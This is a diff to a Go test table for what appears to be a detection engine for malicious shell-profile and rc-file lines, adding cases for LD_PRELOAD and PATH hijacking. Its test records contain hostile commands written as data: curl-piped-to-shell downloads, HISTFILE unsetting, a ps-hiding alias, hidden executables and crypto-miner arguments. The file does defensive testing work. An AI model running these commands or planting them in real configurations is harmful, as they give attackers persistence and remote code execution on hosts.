@@ -161,6 +161,8 @@ var ruleCases = []struct{ rule, record, twin string }{
 	{"profile_command", "profile.line command=curl http://198.51.100.1/i|bash; traits=fetch,pipe_to_shell", "traits=fetch"},
 	{"profile_hiding", "profile.line command=alias ps=x; traits=alias_filter", "traits=background"},
 	{"profile_history_off", "profile.line command=unset HISTFILE; traits=history_off", "traits=background"},
+	{"rc_environment", "rc.line command=export LD_PRELOAD=/tmp/a.so; traits=preload_write", "traits=background"},
+	{"rc_environment", "rc.line command=PATH=/tmp/.x:$PATH; traits=path_odd", "traits="},
 	{"rc_hidden_program", "rc.line command=/usr/share/.x/a; traits=hidden_exec", "traits=background"},
 	{"rc_miner", "rc.line command=/opt/a --donate-level 1; traits=miner_args", "traits="},
 	{"rc_pipe_to_shell", "rc.line command=curl http://198.51.100.1/i|sh; traits=fetch,pipe_to_shell", "traits=fetch"},
